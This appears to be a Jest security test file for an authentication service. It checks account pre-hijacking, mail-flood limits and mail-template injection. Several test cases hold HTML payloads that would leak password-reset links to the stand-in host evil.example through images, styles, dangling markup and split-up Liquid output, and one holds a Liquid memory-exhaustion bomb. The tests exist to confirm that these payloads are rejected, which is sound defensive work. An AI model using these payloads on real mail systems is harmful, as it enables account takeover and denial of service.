import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { startApp, type TestApp, type TestOrganization, type TestUser } from '../support/test-app.js';

let app: TestApp;
beforeAll(async () => {
  app = await startApp();
});
beforeEach(() => app.mailbox.clear());
afterAll(() => app.stop());

const path = ({ slug }: TestOrganization, rest: string): string => `/v1/organizations/${slug}${rest}`;

async function mailsTo(organization: TestOrganization, email: string): Promise<string[]> {
  const rows = await app.sql<{ template: string }>(
    'select template from mails where org_id = $1 and to_email = $2 order by created_at, id',
    [organization.id, email],
  );
  return rows.map(({ template }) => template);
}

describe('Whoever signs up with an address that is not theirs', () => {
  it('is out when the owner of the address signs in by link', async () => {
    const { organization, owner } = await app.given.organization();
    await app.api.as(owner).put(path(organization, '/policies/sign-in'), { magicLink: true });
    await app.api.as(owner).put(path(organization, '/policies/registration'), { mode: 'open' });
    const [email, password] = ['victim@acme.example', 'a long wait for the victim'];
    await app.api.post(path(organization, '/users/sign-up'), { email, password });
    await app.api.post(path(organization, '/sign-up'), { email, password });
    const early = await app.api.post(path(organization, '/sign-in'), { identifier: email, password });
    await app.mailbox.clear();

    await app.api.post(path(organization, '/magic-link'), { email });
    const { token } = await app.mailbox.next(email);
    const signedIn = await app.api.post(path(organization, '/magic-link/confirm'), { token });

    expect(signedIn.status).toBe(200);
    expect((await app.api.as(signedIn.body.token as string).get('/v1/me')).status).toBe(200);
    expect((await app.api.as(early.body.token as string).get('/v1/me')).status).toBe(401);
    const late = await app.api.post(path(organization, '/sign-in'), { identifier: email, password });
    expect(late).toBeProblem('invalid_credentials');
  });

  it('does not flood it by changing the account over and over', async () => {
    const { organization } = await app.given.organization();
    const max = await app.given.user(organization);
    await app.sql('delete from mails where org_id = $1', [organization.id]);
    for (let round = 0; round < 12; round += 1)
      await app.sql('select change_password($1, $2, password_hash, $3, null) from users where id = $2', [
        organization.id,
        max.id,
        `hash ${round}`,
      ]);

    expect(await mailsTo(organization, max.email)).toHaveLength(5);
  });

  it('does not write to strangers without end by asking for their addresses', async () => {
    const { organization } = await app.given.organization();
    const max = await app.given.user(organization);
    const change = (round: number) =>
      app.api
        .as(max)
        .put('/v1/me/email', { email: `stranger-${round}@away.example`, currentPassword: max.password });
    for (let round = 0; round < 10; round += 1) expect((await change(round)).status).toBe(202);

    expect(await change(10)).toBeProblem('too_many_requests');
    expect(await mailsTo(organization, 'stranger-10@away.example')).toEqual([]);
    const notices = (await mailsTo(organization, max.email)).filter((name) => name === 'email-change-notice');
    expect(notices).toHaveLength(5);
  });
});

describe('Whoever writes the mail templates', () => {
  const place = '/mail-templates/reset-password/en';
  const text = 'Open this:\n{{ link }}\n';

  async function givenAuthor(): Promise<{ organization: TestOrganization; author: TestUser }> {
    const { organization, owner } = await app.given.organization();
    await app.api.as(owner).post(path(organization, '/roles'), {
      name: 'author',
      permissions: ['mail-templates:read', 'mail-templates:write'],
    });
    return { organization, author: await app.given.user(organization, { roles: ['author'] }) };
  }

  const link = '<a href="{{ link }}">Open</a>';

  it.each([
    ['in the address of a picture', `${link}<img src="https://evil.example/?{{ link }}">`],
    ['in a style', `${link}<p style="background:url(https://evil.example/?{{ link }})">x</p>`],
    ['in a style sheet', `${link}<style>@import "https://evil.example/? {{ link }}";</style>`],
    ['behind a quote that never ends', `<img src='https://evil.example/?>${link}'>`],
    ['behind a comment that ends early', `<!--> <img src='https://evil.example/? -->${link}'`],
    [
      'behind a text field that ends in a comment',
      `<textarea><!--</textarea><img src='//evil.example/?-->${link}`,
    ],
    ['in another link', `<a href="https://evil.example/?{{ link }}">{{ link }}</a>`],
  ])('does not get the links of others, %s', async (_, html) => {
    const { organization, author } = await givenAuthor();

    const response = await app.api
      .as(author)
      .put(path(organization, place), { subject: 'Hello', text, html });

    expect(response).toBeProblem('invalid_template');
  });

  it('gets nothing of the link piece by piece', async () => {
    const { organization, author } = await givenAuthor();
    const max = await app.given.user(organization);
    const html = `${link}<img src="https://evil.example/?{{ link | split: '=' | last }}&{{ link | upcase }}">`;
    const saved = await app.api.as(author).put(path(organization, place), { subject: 'Hello', text, html });
    await app.mailbox.clear();

    await app.api.post(path(organization, '/password-reset'), { identifier: max.email });
    const mail = await app.mailbox.next(max.email);

    expect(saved.status).toBe(200);
    expect(mail.html).toContain(`href="${mail.link}"`);
    expect(mail.html!.split(mail.token!)).toHaveLength(2);
    expect(mail.html!.toLowerCase().split(mail.token!.toLowerCase())).toHaveLength(2);
  });

  it('does not fill the memory of the server', async () => {
    const { organization, author } = await givenAuthor();
    const doubled = '{% capture b %}{{ b }}{{ b }}{% endcapture %}'.repeat(24);
    const bomb = `{% assign b = "→→→→→→→→→→→→" %}${doubled}{% if b contains "z" %}{% endif %}{{ link }}`;
    const before = process.memoryUsage().rss;

    const response = await app.api
      .as(author)
      .post(path(organization, `${place}/preview`), { subject: 'Hello', text: bomb });

    expect(response).toBeProblem('invalid_template');
    expect(process.memoryUsage().rss - before).toBeLessThan(100_000_000);
  });
});
